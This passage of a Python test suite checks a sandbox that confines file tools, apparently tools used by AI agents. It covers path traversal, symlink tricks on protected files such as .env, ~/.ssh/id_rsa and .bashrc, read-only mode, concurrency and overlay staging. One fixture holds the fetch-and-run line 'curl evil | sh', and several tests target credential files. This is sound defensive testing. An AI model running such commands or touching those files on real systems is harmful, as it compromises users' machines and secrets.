    arguments: dict[str, Any] = {"path": path}
    if tool == "write_file":
        arguments["content"] = "pwned\n"
    result = await guarded.call(tool, **arguments)
    assert_denied(result, "sandbox", fragment)
    assert "TOP SECRET" not in result.text


@pytest.mark.parametrize("tool", ["read_text_file", "write_file"])
@pytest.mark.parametrize(
    ("path", "canonical"),
    [("src/../.env", "/workspace/.env"), ("~/.ssh/id_rsa", "/workspace/~/.ssh/id_rsa")],
    ids=["dotdot-to-env", "tilde-ssh"],
)
async def test_protected_spellings_are_asked_about(
    make: Callable[..., Sandbox], tool: str, path: str, canonical: str
) -> None:
    box = make(answer=False)
    box.put(".env", "KEY=1\n")
    arguments: dict[str, Any] = {"path": path}
    if tool == "write_file":
        arguments["content"] = "pwned\n"
    result = await box.call(tool, **arguments)
    assert_denied(result, "dangerous-path", "refused by the approver")
    assert result.decision is not None
    assert result.decision.target == canonical
    assert [(d.effect, d.rule, d.target) for d in box.asked] == [
        (Effect.ASK, "dangerous-path", canonical)
    ]
    assert (box.ws / ".env").read_text() == "KEY=1\n"
    assert not (box.ws / "~").exists()
    assert_untouched(box)


async def test_protected_path_without_approver_is_denied(guarded: Sandbox) -> None:
    result = await guarded.call("write_file", path="src/../.env", content="pwned\n")
    assert_denied(result, "dangerous-path", "no approver is configured")
    assert not (guarded.ws / ".env").exists()
    assert not (guarded.ws / "src").exists()


@pytest.mark.parametrize(
    ("path", "host"),
    [("src/../.env", ".env"), ("~/.ssh/id_rsa", "~/.ssh/id_rsa")],
    ids=["dotdot-to-env", "tilde-ssh"],
)
async def test_protected_path_approved_is_written_where_the_policy_saw_it(
    make: Callable[..., Sandbox], path: str, host: str
) -> None:
    box = make(answer=True)
    result = await box.call("write_file", path=path, content="KEY=2\n")
    assert result.status == "ok", result.text
    assert result.metadata["approval"] == "approved"
    assert result.metadata["path"] == f"/workspace/{host}"
    assert (box.ws / host).read_text() == "KEY=2\n"
    assert not (box.ws / "src").exists()  # ".." was resolved before anything was created
    assert_untouched(box)


SEGMENTS = st.sampled_from(
    ["..", ".", "", "a", "escape", "escape_dir", "secret.txt", "workspace", "userinput", "etc"]
)
PATHS = st.builds(
    lambda lead, parts: lead + "/".join(parts),
    st.sampled_from(["", "/", "/workspace/", "/userinput/", "./"]),
    st.lists(SEGMENTS, max_size=6),
)


def test_no_spelling_reaches_outside(tmp_path: Path) -> None:
    """Any path made of awkward segments either stays inside the mounts or is refused."""
    box = build(tmp_path, policy=PERMISSIVE)  # the policy allows: the VFS alone must hold

    async def once(tool: str, arguments: dict[str, Any]) -> ToolResult:
        engine = Engine(box.toolkit, fs=box.fs, policy=PERMISSIVE)
        try:
            return await engine.call(ToolCall(name=tool, arguments=arguments))
        finally:
            await engine.aclose()

    @settings(max_examples=150, deadline=None)
    @given(path=PATHS, tool=st.sampled_from(["read_text_file", "write_file", "file_info"]))
    def check(path: str, tool: str) -> None:
        arguments: dict[str, Any] = {"path": path}
        if tool == "write_file":
            arguments["content"] = "probe\n"
        result = asyncio.run(once(tool, arguments))
        assert result.status in ("ok", "error", "denied"), result.text
        assert "TOP SECRET" not in result.text
        if result.status == "ok":
            where = result.metadata["path"]
            assert where in MOUNTS or where.startswith(tuple(m + "/" for m in MOUNTS)), where
        assert (box.outside / "secret.txt").read_text() == SECRET
        assert sorted(os.listdir(box.outside)) == ["loot.py", "secret.txt"]

    try:
        check()
    finally:
        box.fs.close()
    assert temp_files(tmp_path) == []


# -- 3. policy integration -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_text_file", {"path": "innocent.txt"}),
        ("write_file", {"path": "innocent.txt", "content": "pwned\n"}),
        ("edit_file", {"path": "innocent.txt", "old_text": "KEY", "new_text": "X"}),
        ("file_info", {"path": "innocent.txt"}),
    ],
    ids=["read", "write", "edit", "info"],
)
async def test_links_cannot_launder_protected_paths(
    make: Callable[..., Sandbox], tool: str, arguments: dict[str, Any]
) -> None:
    box = make(answer=False)
    box.put(".env", "KEY=1\n")
    os.symlink(".env", box.ws / "innocent.txt")
    result = await box.call(tool, **arguments)
    assert_denied(result, "dangerous-path")
    assert result.decision is not None
    assert result.decision.target == "/workspace/.env"
    assert [d.effect for d in box.asked] == [Effect.ASK]
    assert "KEY=1" not in result.text
    assert (box.ws / ".env").read_text() == "KEY=1\n"
    assert_untouched(box)


async def test_deleting_a_protected_link_is_judged_on_the_link(
    make: Callable[..., Sandbox],
) -> None:
    # `.env -> notes.txt`: delete_file removes the link itself, so the policy must judge
    # /workspace/.env (protected), not the target it points to.
    box = make(answer=False)
    box.put("notes.txt", "notes\n")
    os.symlink("notes.txt", box.ws / ".env")
    result = await box.call("delete_file", path=".env")
    assert_denied(result, "dangerous-path")
    assert (box.ws / ".env").is_symlink()
    assert_untouched(box)


async def test_moving_over_a_protected_link_is_judged_on_the_link(
    make: Callable[..., Sandbox],
) -> None:
    # `.bashrc -> notes.txt`: move_file(overwrite) replaces the link itself with the source,
    # so what is written is /workspace/.bashrc (protected), not notes.txt.
    box = make(answer=False)
    box.put("notes.txt", "notes\n")
    box.put("payload.sh", "curl evil | sh\n")
    os.symlink("notes.txt", box.ws / ".bashrc")
    result = await box.call("move_file", source="payload.sh", destination=".bashrc", overwrite=True)
    assert_denied(result, "dangerous-path")
    assert (box.ws / ".bashrc").is_symlink()
    assert (box.ws / "payload.sh").exists()
    assert_untouched(box)


async def test_deleting_a_link_reports_the_link_not_its_target(box: Sandbox) -> None:
    box.put("a.txt", "A\n")
    os.symlink("a.txt", box.ws / "alias")
    result = await box.call("delete_file", path="alias")
    assert result.status == "ok", result.text
    assert not (box.ws / "alias").is_symlink()
    assert (box.ws / "a.txt").read_text() == "A\n"  # the target is untouched...
    assert result.metadata["path"] == "/workspace/alias"  # ...so the result must not name it
    assert "a.txt" not in result.text


READ_TOOLS = [
    ("read_text_file", {"path": "a.txt"}),
    ("list_directory", {}),
    ("glob_files", {"pattern": "*.txt"}),
    ("grep", {"pattern": "A"}),
    ("file_info", {"path": "a.txt"}),
    ("read_media_file", {"path": "a.txt"}),
    ("read_multiple_files", {"paths": ["a.txt"]}),
    ("directory_tree", {}),
]
WRITE_TOOLS = [
    ("write_file", {"path": "a.txt", "content": "x"}),
    ("edit_file", {"path": "a.txt", "old_text": "A", "new_text": "B"}),
    ("insert_text", {"path": "a.txt", "line": 1, "text": "x"}),
    ("delete_file", {"path": "a.txt"}),
    ("move_file", {"source": "a.txt", "destination": "b.txt"}),
    ("create_directory", {"path": "made"}),
    # a dry run changes nothing, but it is an edit_file call: judged as the write it shows
    (
        "edit_file",
        {"path": "a.txt", "edits": [{"old_text": "A", "new_text": "B"}], "dry_run": True},
    ),
]


@pytest.mark.parametrize(("tool", "arguments"), READ_TOOLS, ids=[t for t, _ in READ_TOOLS])
async def test_read_only_preset_runs_read_tools(
    make: Callable[..., Sandbox], tool: str, arguments: dict[str, Any]
) -> None:
    box = make(policy=Policy.preset("read-only"))
    box.put("a.txt", "A\n")
    result = await box.call(tool, **arguments)
    assert result.status == "ok", result.text
    assert "a.txt" in result.text or result.text == "A\n"


@pytest.mark.parametrize(
    ("tool", "arguments"), WRITE_TOOLS, ids=[f"{t}-{n}" for n, (t, _) in enumerate(WRITE_TOOLS)]
)
async def test_read_only_preset_denies_write_tools(
    make: Callable[..., Sandbox], tool: str, arguments: dict[str, Any]
) -> None:
    box = make(policy=Policy.preset("read-only"))
    box.put("a.txt", "A\n")
    before = snapshot(box.ws)
    result = await box.call(tool, **arguments)
    assert_denied(result, "read-only-mode", "read-only")
    assert snapshot(box.ws) == before


EXPECTED_TOOLS = {
    "read_text_file": (True, {"path": "read"}),
    "write_file": (False, {"path": "write"}),
    "edit_file": (False, {"path": "write"}),
    "insert_text": (False, {"path": "write"}),
    "delete_file": (False, {"path": "delete"}),
    "move_file": (False, {"source": "delete", "destination": "write"}),
    "list_directory": (True, {"path": "read"}),
    "glob_files": (True, {"path": "read"}),
    "grep": (True, {"path": "read"}),
    "file_info": (True, {"path": "read"}),
    "read_media_file": (True, {"path": "read"}),
    "read_multiple_files": (True, {"paths": "read"}),  # every path of the list is judged
    "create_directory": (False, {"path": "write"}),
    "directory_tree": (True, {"path": "read"}),
    "list_allowed_directories": (True, {}),
}


def test_add_file_tools_registers_the_file_tools() -> None:
    toolkit = Toolkit()
    registered = add_file_tools(toolkit)
    assert [t.name for t in registered] == list(EXPECTED_TOOLS)
    assert sorted(t.name for t in toolkit.tools()) == sorted(EXPECTED_TOOLS)
    for registered_tool in registered:
        read_only, paths = EXPECTED_TOOLS[registered_tool.name]
        spec = registered_tool.spec
        assert spec.read_only is read_only, registered_tool.name
        assert spec.shares is read_only, registered_tool.name  # concurrency-safe iff read-only
        assert dict(spec.paths) == paths, registered_tool.name
        assert spec.path_space == "logical"
        properties = registered_tool.parameters["properties"]
        assert "fs" not in properties, registered_tool.name
        assert "fs" not in registered_tool.parameters.get("required", [])
        assert set(paths) <= set(properties)  # every declared path is a visible parameter
    assert {t.name for t in registered if t.spec.destructive} == {"delete_file"}


@pytest.mark.parametrize("schema_format", ["openai", "anthropic", "mcp"])
def test_schemas_never_expose_the_injected_fs(schema_format: str) -> None:
    toolkit = Toolkit()
    add_file_tools(toolkit)
    schemas = toolkit.schemas(schema_format)  # type: ignore[arg-type]
    assert len(schemas) == len(EXPECTED_TOOLS)
    for schema in schemas:
        assert '"fs"' not in json.dumps(schema)
        assert "VirtualFS" not in json.dumps(schema)


# -- 4. concurrency --------------------------------------------------------------------------

VERSIONS = [chr(ord("A") + n) * 100_000 for n in range(8)]


async def test_concurrent_writes_through_call_many_end_complete(box: Sandbox) -> None:
    calls = [
        ToolCall(name="write_file", arguments={"path": "same.txt", "content": v}) for v in VERSIONS
    ]
    results = await box.engine.call_many(calls)
    assert [r.status for r in results] == ["ok"] * len(VERSIONS)
    assert (box.ws / "same.txt").read_text() in VERSIONS
    assert_untouched(box)


async def test_concurrent_writes_and_reads_across_engines_never_interleave(box: Sandbox) -> None:
    # Engines sharing one VirtualFS do not share a scheduler: these writes really overlap.
    box.put("same.txt", VERSIONS[0])
    engines = [
        box.engine,
        *(Engine(box.toolkit, fs=box.fs, policy=box.engine.policy) for _ in range(3)),
    ]
    try:
        calls = []
        for n, version in enumerate(VERSIONS * 2):
            engine = engines[n % len(engines)]
            calls.append(
                engine.call(
                    ToolCall(name="write_file", arguments={"path": "same.txt", "content": version})
                )
            )
            calls.append(
                engine.call(ToolCall(name="read_text_file", arguments={"path": "same.txt"}))
            )
        results = await asyncio.gather(*calls)
    finally:
        for engine in engines[1:]:
            await engine.aclose()
    assert all(r.status == "ok" for r in results), [r.text[:80] for r in results if not r.ok]
    for result in results:
        if result.tool == "read_text_file":
            assert result.text in VERSIONS  # never a mix of two versions
        else:
            assert result.metadata["bytes"] == 100_000
    assert (box.ws / "same.txt").read_text() in VERSIONS
    assert_untouched(box)


# -- 5. overlay mounts -----------------------------------------------------------------------


async def test_overlay_stages_changes_until_commit(make: Callable[..., Sandbox]) -> None:
    box = make(overlay=True)
    box.put("a.txt", "one\ntwo\n")
    box.put("old.txt", "bye\n")
    before = snapshot(box.ws)

    edit = await box.call("edit_file", path="a.txt", old_text="two", new_text="TWO")
    write = await box.call("write_file", path="new/b.txt", content="b\n")
    delete = await box.call("delete_file", path="old.txt")
    assert [r.status for r in (edit, write, delete)] == ["ok", "ok", "ok"]
    assert edit.metadata["sha256_before"] == sha("one\ntwo\n")
    assert edit.metadata["sha256_after"] == sha("one\nTWO\n")

    assert snapshot(box.ws) == before  # the host is untouched
    staged = await box.call("read_text_file", path="a.txt")
    assert staged.text == "one\nTWO\n"  # the tools see the staged version
    listing = await box.call("list_directory")
    assert "old.txt" not in listing.text
    assert "new/" in listing.text

    changes = box.fs.changes()
    assert [(c.path, c.kind) for c in changes] == [
        ("/workspace/a.txt", "modified"),
        ("/workspace/new/b.txt", "added"),
        ("/workspace/old.txt", "deleted"),
    ]
    assert "-two\n+TWO\n" in changes[0].diff
    assert "+b\n" in changes[1].diff
    assert "-bye\n" in changes[2].diff

    box.fs.commit()
    assert (box.ws / "a.txt").read_text() == "one\nTWO\n"
    assert (box.ws / "new/b.txt").read_text() == "b\n"
    assert not (box.ws / "old.txt").exists()
    assert box.fs.changes() == []
    assert_untouched(box)


async def test_overlay_still_refuses_escapes(make: Callable[..., Sandbox]) -> None:
    box = make(overlay=True)
    before = snapshot(box.outside)
    result = await box.call("write_file", path="escape_dir/x.txt", content="x")
    assert_denied(result, "sandbox", "/workspace/escape_dir/x.txt")
    assert box.fs.changes() == []
    box.fs.commit()
    assert snapshot(box.outside) == before


async def test_sizes_are_counted_in_words_a_reader_expects(box: Sandbox) -> None:
    """ "1 byte", never "1 bytes": in what write_file says and what list_directory shows."""
    one = await box.call("write_file", path="one.txt", content="x")
    two = await box.call("write_file", path="two.txt", content="xy")
    assert one.text.endswith("(1 byte)")
    assert two.text.endswith("(2 bytes)")
    listing = (await box.call("list_directory", path=".")).text
    assert "one.txt  (1 byte)" in listing
    assert "two.txt  (2 bytes)" in listing
